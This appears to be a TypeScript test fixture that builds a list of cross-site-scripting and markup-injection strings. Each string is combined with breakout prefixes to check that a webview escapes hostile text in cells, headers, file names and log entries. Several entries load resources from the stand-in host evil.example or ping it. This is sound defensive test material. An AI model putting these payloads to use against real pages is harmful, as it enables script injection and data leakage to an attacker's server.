import { HOSTILE_TEXTS } from './hostileTexts';

const EVIL = 'https://evil.example';

/** Texts that call `hit`, or ask a stranger for something, where they are taken for HTML, an address, CSS or a template. */
const MARKUP: readonly string[] = [
  '<script>hit()</script>',
  `<script src="${EVIL}/s.js"></script>`,
  `<img src="${EVIL}/i.png" onerror="hit()">`,
  '<img src=x onerror=hit()>',
  '<svg onload=hit()></svg>',
  '<svg><script>hit()</script></svg>',
  `<svg><use href="${EVIL}/u.svg#a"></use></svg>`,
  `<iframe src="${EVIL}/f"></iframe>`,
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  `<object data="${EVIL}/o"></object>`,
  `<embed src="${EVIL}/e">`,
  `<link rel="stylesheet" href="${EVIL}/l.css">`,
  `<link rel="preload" as="image" href="${EVIL}/p.png">`,
  `<style>@import url(${EVIL}/i.css)</style>`,
  `<style>* { background: url(${EVIL}/b.png) }</style>`,
  `<div style="background:url(${EVIL}/d.png)">d</div>`,
  `<base href="${EVIL}/">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/">`,
  `<form action="${EVIL}/"><button autofocus onfocus="hit()">b</button></form>`,
  '<input autofocus onfocus=hit()>',
  '<details open ontoggle=hit()><summary>s</summary></details>',
  `<video src="${EVIL}/v" onerror=hit()></video>`,
  `<audio src="${EVIL}/a" onerror=hit()></audio>`,
  '<a href="javascript:hit()" autofocus onfocus="hit()">a</a>',
  `<a href="${EVIL}/" ping="${EVIL}/ping">a</a>`,
  '<math><mtext href="javascript:hit()">m</mtext></math>',
  '<body onload=hit()>',
  '<marquee onstart=hit()>m</marquee>',
  '<template><script>hit()</script></template>',
  '<vscode-button autofocus onclick=hit()>b</vscode-button>',
  '<div popover id="columns" onbeforetoggle=hit()>p</div>',
  'javascript:hit()',
  'data:text/html,<script>hit()</script>',
  '${hit()}',
  '{{constructor.constructor("hit()")()}}',
  '<!--?lit$000000000$--><script>hit()</script>',
  '<?lit$000000000$>',
  ' onmouseover=hit() onfocus=hit() autofocus ',
  `;background:url(${EVIL}/c.png);`,
  '&lt;img src=x onerror=hit()&gt;',
];

/** Ends of what may surround such a text: an attribute, a tag, a comment, an element, a script. */
const ENDS = ['', '"', "'", '">', "'>", '-->', '</span></td>', '</button>', '</script>', '`'];

/** Texts that a stranger may have put into a cell, a header, a file's name or an entry of the log, for a page of HTML. */
export const HOSTILE_MARKUP: readonly string[] = [
  ...MARKUP.flatMap((markup) => ENDS.map((end) => `${end}${markup}`)),
  // Long ones are for other tests: here each is drawn in every field
  ...HOSTILE_TEXTS.filter(({ length }) => length < 1000),
];
